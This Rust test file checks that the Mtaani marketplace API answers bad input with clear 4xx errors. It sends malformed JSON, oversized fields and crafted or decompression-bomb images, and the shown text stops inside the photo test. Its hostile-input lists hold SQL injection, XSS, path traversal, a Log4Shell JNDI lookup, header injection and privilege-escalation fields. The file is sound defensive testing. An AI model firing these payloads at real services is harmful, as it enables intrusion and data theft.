//! Bad input against the real stack (the four services on loopback, on SQLite and on the real
//! PostgreSQL): every POST and PUT gets malformed JSON, wrong types, missing and extra fields, empty
//! bodies, NUL characters, very long strings, odd Unicode and hostile text; photos that lie about
//! their type, are cut short, corrupt, animated or decompression bombs; and bodies over the limit.
//!
//! The rule: a 4xx with a clear `message` (JSON, short, in words, nothing internal), or for text that
//! is hostile but valid, accepted and given back byte for byte. Never a 5xx. Every input tried is
//! counted and the count printed (`cargo test -p mtaani --test system bad_input:: -- --nocapture`).

use std::{
    sync::atomic::{AtomicU32, Ordering},
    time::Duration,
};

use axum::{
    Router,
    body::Body,
    http::{Request, StatusCode, header},
};
use base64::Engine;
use gateway::limits::RateLimiter;
use mtaani_runtime::testing::TestDb;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::support::{Answer, DEMO_PASSWORD, PNG_1X1, Product, call};

const SELLER: (&str, &str) = ("wanjiru@demo.mtaani.co.ke", DEMO_PASSWORD); // Premium: three photos

async fn start_product(db: fn(&'static str) -> TestDb) -> Product {
    // Photos take a while in a debug build: a deadline that only a hang would pass. Trusting the
    // proxy header lets every input come from its own address, under the rate limits.
    Product::options().on(db).deadline(Duration::from_secs(20)).trusting_proxy().start().await
}

fn next_address() -> String {
    static NEXT: AtomicU32 = AtomicU32::new(1);
    let n = NEXT.fetch_add(1, Ordering::Relaxed);
    format!("10.{}.{}.{}", (n >> 16) & 255, (n >> 8) & 255, n & 255)
}

/// One run of inputs: sends them, counts them, and collects what broke the rule.
struct Suite {
    app: Router,
    limiter: RateLimiter,
    tried: usize,
    problems: Vec<String>,
}

impl Suite {
    fn new(product: &Product) -> Self {
        Self { app: product.app.clone(), limiter: product.state.limiter.clone(), tried: 0, problems: Vec::new() }
    }

    async fn send(&mut self, request: axum::http::request::Builder, body: Body) -> Answer {
        self.tried += 1;
        let request = request.header("x-real-ip", next_address()).body(body).unwrap();
        call(&self.app, request).await
    }

    async fn raw(
        &mut self,
        method: &str,
        uri: &str,
        token: Option<&str>,
        content_type: Option<&str>,
        body: Vec<u8>,
    ) -> Answer {
        let mut request = Request::builder().method(method).uri(uri);
        if let Some(t) = token {
            request = request.header(header::AUTHORIZATION, format!("Bearer {t}"));
        }
        if let Some(ct) = content_type {
            request = request.header(header::CONTENT_TYPE, ct);
        }
        self.send(request, Body::from(body)).await
    }

    async fn post(&mut self, ep: &Endpoint, body: &Value) -> Answer {
        if ep.path == "/api/login" {
            // Failed sign-ins lock the account after ten; this suite fails on purpose far more often.
            self.limiter.clear(&format!("login-account:{}", SELLER.0)).await;
        }
        let bytes = serde_json::to_vec(body).unwrap();
        self.raw(ep.method, &ep.path, ep.token.as_deref(), Some("application/json"), bytes).await
    }

    fn problem(&mut self, what: &str, a: &Answer, why: &str) {
        let message = a.json_or_null().to_string().chars().take(300).collect::<String>();
        self.problems.push(format!("{what}: {why} (got {} {message})", a.status));
    }

    /// Never a 5xx; any error is JSON with a clear message.
    fn not_broken(&mut self, what: &str, a: &Answer) -> bool {
        if a.status.is_server_error() {
            self.problem(what, a, "a server error");
            return false;
        }
        if a.status.is_client_error() {
            let json = a.json_or_null();
            let message = json["message"].as_str().unwrap_or_default();
            let leaky = ["sqlx", "database", "panicked", "tonic", "grpc", "status:", "Something went wrong"];
            if !a.header("content-type").starts_with("application/json") {
                self.problem(what, a, "an error that is not JSON");
                return false;
            } else if message.trim().is_empty() || message.chars().count() > 300 {
                self.problem(what, a, "no clear message");
                return false;
            } else if leaky.iter().any(|l| message.to_lowercase().contains(&l.to_lowercase())) {
                self.problem(what, a, "a message showing internals");
                return false;
            }
        }
        true
    }

    /// A 4xx with a clear message.
    fn refused(&mut self, what: &str, a: &Answer) {
        if self.not_broken(what, a) && !a.status.is_client_error() {
            self.problem(what, a, "accepted, should be refused");
        }
    }

    fn refused_with(&mut self, what: &str, a: &Answer, status: StatusCode, message: &str) {
        if self.not_broken(what, a) && (a.status != status || a.json_or_null()["message"] != message) {
            self.problem(what, a, &format!("should be {status} {message:?}"));
        }
    }
}

/// A POST or PUT endpoint and a body it takes (`base(n)`: the n-th, unique where it must be).
struct Endpoint {
    method: &'static str,
    path: String,
    token: Option<String>,
    base: Box<dyn Fn(usize) -> Value + Send + Sync>,
    /// Fields without which the request is refused.
    required: &'static [&'static str],
    /// Free-text fields: any text within their length rules is accepted as it is.
    text: &'static [&'static str],
    /// Where the answer gives a text field back (`None`: it does not).
    echo: fn(&Value, &str) -> Option<Value>,
    /// The base answers the same status every time (a started payment makes the next one conflict).
    stable: bool,
}

fn echo_top(answer: &Value, field: &str) -> Option<Value> {
    answer.get(field).cloned()
}

fn echo_none(_: &Value, _: &str) -> Option<Value> {
    None
}

fn echo_user_name(answer: &Value, field: &str) -> Option<Value> {
    (field == "userName").then(|| answer["user"]["userName"].clone())
}

const LISTING_FIELDS: &[&str] =
    &["name", "images", "minPrice", "maxPrice", "location", "phoneNumber", "category", "subcategory", "description"];

fn listing_body() -> Value {
    json!({"name": "Knotless Braids by Wanjiru", "images": [PNG_1X1], "minPrice": 1500, "maxPrice": "4,500",
        "location": "Kilimani, Nairobi", "phoneNumber": "0712 345 678", "category": "hair",
        "subcategory": "braiding", "description": "Neat knotless braids that last, gentle on your edges."})
}

/// A date and slot free for the n-th booking: thirty slots a day from tomorrow (Nairobi).
/// A start for booking `n`: from 7:00 AM to 7:00 PM (a listing of up to four hours still ends within
/// the open-all-day hours the suite gives its seller), a day after another.
fn slot(n: usize) -> (String, String) {
    let times: Vec<String> = (14..39)
        .map(|half| {
            let (h, m) = (half / 2, if half % 2 == 0 { "00" } else { "30" });
            let (h12, ampm) = match h {
                0..12 => (h, "AM"),
                12 => (12, "PM"),
                _ => (h - 12, "PM"),
            };
            format!("{h12}:{m} {ampm}")
        })
        .collect();
    let nairobi_now = chrono::Utc::now() + chrono::Duration::hours(3);
    let day = nairobi_now + chrono::Duration::days(1 + (n / times.len()) as i64);
    (day.format("%Y-%m-%d").to_string(), times[n % times.len()].clone())
}

async fn endpoints(product: &Product, suite: &mut Suite) -> Vec<Endpoint> {
    let token = product.sign_in(SELLER.0, SELLER.1).await;
    let mine = suite.raw("GET", "/api/account/services?limit=1", Some(&token), None, vec![]).await;
    let own = mine.json_or_null()[0]["_id"].as_str().unwrap().to_owned();
    // A payment of a seller of our own (the demo seller's month is far from its last days: no renewal).
    let payer = json!({"userName": "Neema Auma", "email": "bad-input.payer@example.com", "phoneNumber": "0712345678",
        "password": "sukuma-wiki-2026", "accountType": "seller", "packageId": "standard"});
    let payment = suite.raw("POST", "/api/register", None, Some("application/json"), payer.to_string().into()).await;
    assert_eq!(payment.status, StatusCode::CREATED, "{}", payment.json_or_null());
    let payment = payment.json_or_null()["payment"]["id"].as_str().unwrap().to_owned();
    // Open every day, all day, 20 at once: any start the suite picks fits (the rules of the week are
    // booking-svc's tests; here the point is what odd text does).
    let hours = json!({"weekly": {"mon": [["07:00", "23:00"]], "tue": [["07:00", "23:00"]], "wed": [["07:00", "23:00"]],
        "thu": [["07:00", "23:00"]], "fri": [["07:00", "23:00"]], "sat": [["07:00", "23:00"]], "sun": [["07:00", "23:00"]]},
        "daysOff": [], "minNoticeMinutes": 0, "horizonDays": 365, "capacity": 20, "changeNoticeMinutes": 0});
    let set =
        suite.raw("PUT", "/api/account/hours", Some(&token), Some("application/json"), hours.to_string().into()).await;
    assert_eq!(set.status, StatusCode::OK, "{}", set.json_or_null());
    let for_booking = own.clone();
    let t = Some(token);
    vec![
        Endpoint {
            method: "POST",
            path: "/api/services".into(),
            token: t.clone(),
            base: Box::new(|_| listing_body()),
            required: LISTING_FIELDS,
            text: &["name", "location", "description"],
            echo: echo_top,
            stable: true,
        },
        Endpoint {
            method: "PUT",
            path: format!("/api/service/{own}"),
            token: t.clone(),
            base: Box::new(|_| listing_body()),
            required: LISTING_FIELDS,
            text: &["name", "location", "description"],
            echo: echo_top,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/register".into(),
            token: None,
            base: Box::new(|n| {
                // A phone of her own each: registrations are limited per phone number too.
                let email = format!("zawadi.{n}@example.com");
                json!({"userName": "Zawadi Achieng", "email": email, "phoneNumber": format!("0733 {:06}", n % 1_000_000),
                    "password": "mandazi-moto", "accountType": "buyer"})
            }),
            required: &["userName", "email", "phoneNumber", "password", "accountType"],
            text: &["userName"],
            echo: echo_user_name,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/login".into(),
            token: None,
            base: Box::new(|_| json!({"email": SELLER.0, "password": SELLER.1, "rememberMe": false})),
            required: &["email", "password"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/password-reset/request".into(),
            token: None,
            base: Box::new(|_| json!({"email": "nobody@example.com"})),
            required: &["email"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/password-reset/confirm".into(),
            token: None,
            base: Box::new(|_| json!({"token": "not-a-reset-token", "password": "chapati-tamu"})),
            required: &["token", "password"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/appointments".into(),
            token: None,
            base: Box::new(move |n| {
                let (date, time) = slot(n);
                json!({"serviceId": for_booking, "name": "Amina Wanjiku", "email": format!("amina.{n}@example.co.ke"),
                    "phone": "0712345678", "date": date, "time": time, "message": "Waist-length knotless braids"})
            }),
            required: &["serviceId", "name", "email", "date", "time"],
            text: &["name", "message"],
            echo: echo_top,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/appointments/cancel".into(),
            token: None,
            base: Box::new(|_| json!({"token": "abc.def.ghi"})),
            required: &["token"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/appointments/reschedule".into(),
            token: None,
            base: Box::new(|n| {
                let (date, time) = slot(n);
                json!({"token": "abc.def.ghi", "date": date, "time": time})
            }),
            required: &["token", "date", "time"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "PUT",
            path: "/api/account/hours".into(),
            token: t.clone(),
            base: Box::new(|_| {
                let day = json!([["07:00", "23:00"]]);
                json!({"weekly": {"mon": day, "tue": day, "wed": day, "thu": day, "fri": day, "sat": day, "sun": day},
                    "daysOff": [], "minNoticeMinutes": 0, "horizonDays": 365, "capacity": 20, "changeNoticeMinutes": 0})
            }),
            required: &["weekly", "horizonDays", "capacity"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/contact".into(),
            token: None,
            base: Box::new(|n| {
                json!({"name": "Amina Wanjiru", "email": format!("amina.{n}@example.com"), "phone": "0712345678",
                    "subject": "Listing my salon", "message": "How do I list my salon on Mtaani?"})
            }),
            required: &["name", "email", "phone", "subject", "message"],
            text: &["name", "subject", "message"],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/payments".into(),
            token: t.clone(),
            base: Box::new(|_| json!({"phoneNumber": "0712345678", "packageId": "premium"})),
            required: &[],
            text: &[],
            echo: echo_none,
            stable: false,
        },
        Endpoint {
            method: "POST",
            path: format!("/api/payments/{payment}/retry"),
            token: None,
            base: Box::new(|_| json!({"phoneNumber": "0712345678"})),
            required: &[],
            text: &[],
            echo: echo_none,
            stable: true,
        },
        Endpoint {
            method: "POST",
            path: "/api/account/package".into(),
            token: t.clone(),
            base: Box::new(|_| json!({"packageId": "standard"})),
            required: &["packageId"],
            text: &[],
            echo: echo_none,
            stable: true,
        },
    ]
}

const MALFORMED: &[&[u8]] = &[
    b"{\"name\": ",
    b"{name: \"Amina\"}",
    b"{\"a\": 1}}",
    b"{\"a\": 1,}",
    b"[1, 2",
    b"nul",
    b"{\"a\": \"\\x41\"}",
    b"{\"a\": \"\\ud800\"}",
    b"{\"a\": \"\xff\xfe\"}",
    b"\xef\xbb\xbf{}",
    b"{'single': 'quotes'}",
    b"{\"a\": 01}",
    b"{\"a\": NaN}",
    b"{\"a\": \"tab\there\"}",
    b"{\"a\": \"raw \x00 nul\"}",
];

const HOSTILE: &[&str] = &[
    "'; DROP TABLE listings;--",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE users;-- \" OR 1=1 --",
    "<img src=x onerror=alert(document.cookie)>",
    "../../../../etc/passwd",
    "%s%s%n {0} ${jndi:ldap://x.example/a} {{7*7}}",
    "Mama\r\nSet-Cookie: session=stolen",
    "\\u0000 written as text, not a NUL",
    "\u{202E}gpj.exe Salon",
    "Amina 💇🏾‍♀️ Braids 🇰🇪",
    "Z̷̢͓a̸͖l̵g̴o̶ nails",
    "e\u{301}le\u{301}gante coiffure",
    "\u{FEFF}BOM and \u{200B}zero\u{200D}width",
    "مرحبا Nairobi 你好 𝕄𝕥𝕒𝕒𝕟𝕚",
];

/// Hostile or odd text inside a value that meets every length rule, without surrounding spaces.
fn text(hostile: &str) -> String {
    format!("Mama {hostile} Salon, Kilimani, by appointment")
}

/// Values of another JSON type than `field`'s (a price may be a number or digits as text).
fn wrong_types(field: &str, like: &Value) -> Vec<Value> {
    if field.ends_with("Price") {
        return vec![json!(true), json!({"n": 1}), json!([1500])];
    }
    match like {
        Value::String(_) => vec![json!(42), json!(true), json!({}), json!(["a"])],
        Value::Number(_) => vec![json!(true), json!({"n": 1}), json!([1500])],
        Value::Bool(_) => vec![json!("yes"), json!(1), json!({})],
        Value::Array(_) => vec![json!(42), json!("x"), json!({"0": "x"}), json!([[1]])],
        _ => vec![json!([])],
    }
}

fn replace_bytes(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    match haystack.windows(from.len()).position(|w| w == from) {
        Some(at) => [&haystack[..at], to, &haystack[at + from.len()..]].concat(),
        None => haystack.to_vec(),
    }
}

fn with(base: &Value, field: &str, value: Value) -> Value {
    let mut body = base.clone();
    body[field] = value;
    body
}

fn without(base: &Value, field: &str) -> Value {
    let mut body = base.clone();
    body.as_object_mut().unwrap().remove(field);
    body
}

async fn bodies_and_fields(suite: &mut Suite, eps: &[Endpoint]) {
    let mut n = 0;
    for ep in eps {
        let name = format!("{} {}", ep.method, ep.path);
        let mut next = || {
            n += 1;
            (ep.base)(n)
        };
        let base = next();
        let ok = suite.post(ep, &base).await;
        suite.not_broken(&format!("{name} as it should be"), &ok);

        // Bad escapes and bytes in a field the endpoint reads (an unknown field is skipped unread).
        let first = base.as_object().unwrap().keys().next().unwrap().clone();
        for body in MALFORMED {
            let body = replace_bytes(body, b"\"a\"", format!("\"{first}\"").as_bytes());
            let a = suite.raw(ep.method, &ep.path, ep.token.as_deref(), Some("application/json"), body.clone()).await;
            let what = format!("{name} malformed {}", String::from_utf8_lossy(&body));
            let json = a.json_or_null();
            let message = json["message"].as_str().unwrap_or_default();
            if suite.not_broken(&what, &a)
                && (a.status != StatusCode::BAD_REQUEST || !message.starts_with("The request body"))
            {
                suite.problem(&what, &a, "should be 400, not valid JSON");
            }
        }
        let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
        let a = suite.raw(ep.method, &ep.path, ep.token.as_deref(), Some("application/json"), deep.into_bytes()).await;
        suite.refused(&format!("{name} nested 5000 deep"), &a);
        for (ct, body) in [
            (Some("application/json"), ""),
            (Some("application/json"), "   "),
            (None, ""),
            (Some("application/json"), "{}"),
        ] {
            let a = suite.raw(ep.method, &ep.path, ep.token.as_deref(), ct, body.into()).await;
            if body == "{}" && ep.required.is_empty() {
                suite.not_broken(&format!("{name} {{}}"), &a);
            } else {
                suite.refused(&format!("{name} empty body {body:?} ({ct:?})"), &a);
            }
        }
        for ct in
            ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonp"]
        {
            let a = suite
                .raw(ep.method, &ep.path, ep.token.as_deref(), Some(ct), serde_json::to_vec(&next()).unwrap())
                .await;
            suite.refused_with(
                &format!("{name} sent as {ct}"),
                &a,
                StatusCode::UNSUPPORTED_MEDIA_TYPE,
                &mtaani_proto::text::said::not_json().to_string(),
            );
        }
        for top in [json!(null), json!([]), json!("text"), json!(42), json!(true), json!([next()])] {
            let a = suite.post(ep, &top).await;
            suite.refused(&format!("{name} body {top}"), &a);
        }
        let duplicate =
            format!("{{\"{f}\": \"a\", \"{f}\": \"b\"}}", f = base.as_object().unwrap().keys().next().unwrap());
        let a =
            suite.raw(ep.method, &ep.path, ep.token.as_deref(), Some("application/json"), duplicate.into_bytes()).await;
        suite.refused(&format!("{name} duplicate field"), &a);

        let fields: Vec<String> = base.as_object().unwrap().keys().cloned().collect();
        for field in &fields {
            let base = next();
            for wrong in wrong_types(field, &base[field]) {
                let a = suite.post(ep, &with(&base, field, wrong.clone())).await;
                let what = format!("{name} {field} = {wrong}");
                let json = a.json_or_null();
                let message = json["message"].as_str().unwrap_or_default();
                if suite.not_broken(&what, &a)
                    && (a.status != StatusCode::BAD_REQUEST
                        || !message.starts_with("The request body has a field of the wrong type"))
                {
                    suite.problem(&what, &a, "should be 400, a field of the wrong type");
                }
            }
            let a = suite.post(ep, &with(&base, field, Value::Null)).await;
            suite.not_broken(&format!("{name} {field} = null"), &a);

            let a = suite.post(ep, &without(&next(), field)).await;
            if ep.required.contains(&field.as_str()) {
                suite.refused(&format!("{name} without {field}"), &a);
            } else {
                suite.not_broken(&format!("{name} without {field}"), &a);
            }

            if !base[field].is_string() {
                continue;
            }
            let nul = format!("{}\u{0}{}", base[field].as_str().unwrap(), "x");
            let a = suite.post(ep, &with(&next(), field, json!(nul))).await;
            suite.refused_with(
                &format!("{name} {field} with a NUL"),
                &a,
                StatusCode::BAD_REQUEST,
                &mtaani_proto::text::said::unsupported_characters().to_string(),
            );
            let a = suite.post(ep, &with(&next(), field, json!("\u{0}"))).await;
            suite.refused_with(
                &format!("{name} {field} = NUL"),
                &a,
                StatusCode::BAD_REQUEST,
                &mtaani_proto::text::said::unsupported_characters().to_string(),
            );

            for long in [
                "a".repeat(100_000),
                "é".repeat(10_000),
                "💇🏾".repeat(3_000),
                format!("{}@example.com", "a".repeat(10_000)),
            ] {
                let a = suite.post(ep, &with(&next(), field, json!(long))).await;
                suite.refused(&format!("{name} {field} of {} characters", long.chars().count()), &a);
            }

            for hostile in HOSTILE {
                let body = with(&next(), field, json!(text(hostile)));
                let a = suite.post(ep, &body).await;
                let what = format!("{name} {field} = {hostile:?}");
                if !ep.text.contains(&field.as_str()) {
                    suite.not_broken(&what, &a);
                    continue;
                }
                if !suite.not_broken(&what, &a) {
                    continue;
                }
                if !a.status.is_success() {
                    suite.problem(&what, &a, "valid text refused");
                } else if let Some(back) = (ep.echo)(&a.json_or_null(), field) {
                    let sent = body[field].as_str().unwrap();
                    // Names are kept with single spaces between words (SPEC §3 "joined by a space").
                    let sent = if field == "userName" {
                        sent.split_whitespace().collect::<Vec<_>>().join(" ")
                    } else {
                        sent.to_owned()
                    };
                    if back != json!(sent) {
                        suite.problem(&what, &a, &format!("given back as {back}, not as sent"));
                    }
                }
            }
        }

        let extras = json!({"isAdmin": true, "role": "admin", "sellerId": "someone-else", "featured": true,
            "_id": "chosen-id", "status": "declined", "accountType": "seller", "__proto__": {"admin": true}});
        let mut body = next();
        for (k, v) in extras.as_object().unwrap() {
            if body.get(k).is_none() {
                body[k] = v.clone();
            }
        }
        let a = suite.post(ep, &body).await;
        let again = suite.post(ep, &next()).await;
        if suite.not_broken(&format!("{name} with extra fields"), &a) && ep.stable && a.status != again.status {
            suite.problem(
                &format!("{name} with extra fields"),
                &a,
                &format!("answered unlike without them ({})", again.status),
            );
        }
        if a.status.is_success() {
            let json = a.json_or_null();
            for (k, v) in
                // No new booking is ever declined (one is confirmed at once by a provider who books
                // instantly, as this suite's, or requested).
                [("_id", "chosen-id"), ("sellerId", "someone-else"), ("status", "declined"), ("role", "admin")]
            {
                if json.get(k) == Some(&json!(v)) {
                    suite.problem(&format!("{name} with extra fields"), &a, &format!("{k} was taken from the request"));
                }
            }
            if json["user"]["accountType"] == "seller" && ep.path == "/api/register" {
                suite.problem(&format!("{name} with extra fields"), &a, "became a seller by an extra field");
            }
        }
    }
}

/// Bodies without fields, odd ids in the path and bodies to the callback.
async fn paths_and_callback(suite: &mut Suite, eps: &[Endpoint]) {
    let token = eps[0].token.clone();
    let odd_ids = [
        "..%2F..%2Fetc%2Fpasswd",
        "%27%3B%20DROP%20TABLE%20listings%3B--",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%E2%80%AEgpj.exe",
        "%F0%9F%92%87%F0%9F%8F%BE",
        "%FF%FE",
        "a%00b",
        "%00",
    ];
    let long = "x".repeat(10_000);
    for id in odd_ids.iter().copied().chain([long.as_str()]) {
        for (method, path, body) in [
            ("GET", format!("/api/service/{id}"), None),
            ("PUT", format!("/api/service/{id}"), Some(listing_body())),
            ("DELETE", format!("/api/service/{id}"), None),
            ("POST", format!("/api/account/appointments/{id}/confirm"), None),
            ("POST", format!("/api/account/appointments/{id}/decline"), Some(json!({"junk": true}))),
            ("GET", format!("/api/payments/{id}"), None),
            ("POST", format!("/api/payments/{id}/retry"), Some(json!({"phoneNumber": "0712345678"}))),
            ("GET", format!("/media/{id}"), None),
            ("GET", format!("/api/services/{id}"), None),
        ] {
            let bytes = body.map(|b| b.to_string().into_bytes()).unwrap_or_default();
            let a = suite.raw(method, &path, token.as_deref(), Some("application/json"), bytes).await;
            let what = format!("{method} {}", path.chars().take(80).collect::<String>());
            if id.contains("%00") {
                suite.refused_with(&what, &a, StatusCode::BAD_REQUEST, "The address is not valid.");
            } else if !(method == "GET" && path.starts_with("/api/services/")) {
                suite.refused(&what, &a);
            } else {
                suite.not_broken(&what, &a);
            }
        }
    }
    for query in [
        "/api/services?location=%00",
        "/api/services/search?query=%27%3B%20DROP%20TABLE%20listings%3B--",
        "/api/services/search?query=a%00",
        "/api/services?limit=-1",
        "/api/services?limit=99999999999999999999",
        "/api/services?offset=1e3",
        "/api/subcategory?subcategory=..%2F..%2F..",
        "/api/subcategory?subcategory=%2Fservices%2F%00%2Fx",
        "/api/appointments/availability?serviceId=%00&date=2030-01-01",
        "/api/appointments/availability?serviceId=x&date=%27%3B--",
        "/api/appointments/cancel?token=%3Cscript%3E",
        "/api/appointments/calendar?serviceId=%00&month=2030-01",
        "/api/appointments/calendar?serviceId=x&month=%27%3B--",
        "/api/appointments/calendar?serviceId=x&month=99999-99",
        "/api/appointments/calendar?month=2030-01",
        "/api/appointments/availability?serviceId=x&date=99999-01-01",
    ] {
        let a = suite.raw("GET", query, None, None, vec![]).await;
        if query.contains("%00") {
            suite.refused_with(
                query,
                &a,
                StatusCode::BAD_REQUEST,
                &mtaani_proto::text::said::unsupported_characters().to_string(),
            );
        } else {
            suite.not_broken(query, &a);
        }
    }
    // (An address is at most 64 KiB: `http` refuses longer ones before any handler.)
    let long_query = format!("/api/services?location={}", "k".repeat(60_000));
    let a = suite.raw("GET", &long_query, None, None, vec![]).await;
    suite.refused_with(
        "a 60 000-character location",
        &a,
        StatusCode::BAD_REQUEST,
        "The query parameters are too long.",
    );
    let a = suite.raw("GET", &format!("/api/services?location={}", "k".repeat(3_000)), None, None, vec![]).await;
    suite.not_broken("a 3 000-character location", &a);

    // Safaricom's callback takes any body and acknowledges it; nothing in it is trusted.
    for body in [
        &b""[..],
        b"{",
        b"[]",
        b"null",
        b"{\"Body\": {\"stkCallback\": {\"CheckoutRequestID\": \"'; DROP TABLE payments;--\"}}}",
        b"\x00\xff",
    ] {
        let a = suite.raw("POST", "/api/payments/mpesa/callback", None, Some("application/json"), body.to_vec()).await;
        if suite.not_broken("the M-Pesa callback", &a) && a.status != StatusCode::OK {
            suite.problem("the M-Pesa callback", &a, "not acknowledged");
        }
    }
}

async fn run(db: fn(&'static str) -> TestDb, backend: &str) {
    let product = start_product(db).await;
    let mut suite = Suite::new(&product);
    let eps = endpoints(&product, &mut suite).await;
    bodies_and_fields(&mut suite, &eps).await;
    paths_and_callback(&mut suite, &eps).await;

    // Hostile text stayed text: the catalog is all there.
    let all = suite.raw("GET", "/api/services?limit=1000", None, None, vec![]).await;
    assert_eq!(all.status, StatusCode::OK);
    assert!(all.json_or_null().as_array().unwrap().len() >= 45, "the demo listings are still there");
    let tried = suite.tried;
    eprintln!("bad input ({backend}): {tried} inputs tried, {} problems", suite.problems.len());
    assert!(suite.problems.is_empty(), "{} problems:\n{}", suite.problems.len(), suite.problems.join("\n"));
    product.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_input_gets_a_clear_4xx_on_sqlite() {
    run(TestDb::sqlite, "SQLite").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_input_gets_a_clear_4xx_on_postgres() {
    run(TestDb::postgres, "PostgreSQL").await;
}

// ---- photos ---------------------------------------------------------------------------------

fn data_url(mime: &str, bytes: &[u8]) -> String {
    format!("data:{mime};base64,{}", base64::engine::general_purpose::STANDARD.encode(bytes))
}

fn encoded(img: &image::DynamicImage, format: image::ImageFormat) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, format).unwrap();
    out.into_inner()
}

fn photo(w: u32, h: u32) -> image::DynamicImage {
    image::DynamicImage::ImageRgb8(image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x * 7) as u8, (y * 5) as u8, 90])
    }))
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut c = (data.len() as u32).to_be_bytes().to_vec();
    c.extend_from_slice(kind);
    c.extend_from_slice(data);
    c.extend_from_slice(&crc32fast::hash(&c[4..]).to_be_bytes());
    c
}

/// A real PNG whose header claims `w` x `h` (the pixel data behind it is a 1 x 1 image's).
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut png = encoded(&photo(1, 1), image::ImageFormat::Png);
    png[16..20].copy_from_slice(&w.to_be_bytes());
    png[20..24].copy_from_slice(&h.to_be_bytes());
    let crc = crc32fast::hash(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

/// An APNG: a PNG with an animation control chunk (two frames) after its header.
fn apng() -> Vec<u8> {
    let png = encoded(&photo(4, 4), image::ImageFormat::Png);
    let mut actl = 2u32.to_be_bytes().to_vec();
    actl.extend_from_slice(&0u32.to_be_bytes());
    let mut fctl = 0u32.to_be_bytes().to_vec(); // sequence, width, height, x, y, delay, dispose, blend
    for v in [4u32, 4, 0, 0] {
        fctl.extend_from_slice(&v.to_be_bytes());
    }
    fctl.extend_from_slice(&[0, 1, 0, 10, 0, 0]);
    let mut out = png[..33].to_vec();
    out.extend(png_chunk(b"acTL", &actl));
    out.extend(png_chunk(b"fcTL", &fctl));
    out.extend_from_slice(&png[33..]);
    out
}

/// An animated WebP: two frames of a lossless 4 x 4 picture.
fn animated_webp() -> Vec<u8> {
    let still = encoded(&photo(4, 4), image::ImageFormat::WebP);
    let vp8l = &still[12..]; // the VP8L chunk, header included
    let le24 = |v: u32| v.to_le_bytes()[..3].to_vec();
    let chunk = |kind: &[u8; 4], data: &[u8]| {
        let mut c = kind.to_vec();
        c.extend_from_slice(&(data.len() as u32).to_le_bytes());
        c.extend_from_slice(data);
        if data.len() % 2 == 1 {
            c.push(0);
        }
        c
    };
    let mut vp8x = vec![0x02 | 0x10, 0, 0, 0];
    vp8x.extend(le24(3));
    vp8x.extend(le24(3));
    let mut body = b"WEBP".to_vec();
    body.extend(chunk(b"VP8X", &vp8x));
    body.extend(chunk(b"ANIM", &[0, 0, 0, 0, 0, 0]));
    for _ in 0..2 {
        let mut frame = [le24(0), le24(0), le24(3), le24(3), le24(100)].concat();
        frame.push(0);
        frame.extend_from_slice(vp8l);
        body.extend(chunk(b"ANMF", &frame));
    }
    let mut riff = b"RIFF".to_vec();
    riff.extend_from_slice(&(body.len() as u32).to_le_bytes());
    riff.extend(body);
    riff
}

/// A GIF89a of two 1 x 1 frames with a looping extension.
fn animated_gif() -> Vec<u8> {
    let mut g = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff".to_vec();
    g.extend_from_slice(b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00");
    for _ in 0..2 {
        g.extend_from_slice(
            b"\x21\xf9\x04\x00\x0a\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00",
        );
    }
    g.push(0x3b);
    g
}

/// A baseline JPEG whose frame header (SOF0) claims `w` x `h`.
fn jpeg_claiming(w: u16, h: u16) -> Vec<u8> {
    let mut jpeg = encoded(&photo(8, 8), image::ImageFormat::Jpeg);
    let sof = jpeg.windows(2).position(|m| m == [0xFF, 0xC0]).expect("a SOF0 marker");
    jpeg[sof + 5..sof + 7].copy_from_slice(&h.to_be_bytes());
    jpeg[sof + 7..sof + 9].copy_from_slice(&w.to_be_bytes());
    jpeg
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn photos_that_lie_break_or_explode_are_refused_with_a_clear_message() {
    let product = start_product(TestDb::sqlite).await;
    let mut suite = Suite::new(&product);
    let token = product.sign_in(SELLER.0, SELLER.1).await;
    let png = encoded(&photo(64, 48), image::ImageFormat::Png);
    let jpeg = encoded(&photo(64, 48), image::ImageFormat::Jpeg);
    let webp = encoded(&photo(64, 48), image::ImageFormat::WebP);
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let unsupported = |name: &str| format!("File {name} is not a supported image format.");
    let flat = |w: u32, h: u32| {
        encoded(
            &image::DynamicImage::ImageLuma8(image::GrayImage::from_pixel(w, h, image::Luma([200]))),
            image::ImageFormat::Png,
        )
    };
    let bomb_ok = flat(7000, 5000); // 35 MP in a few dozen kilobytes: within the limit, decoded and shrunk
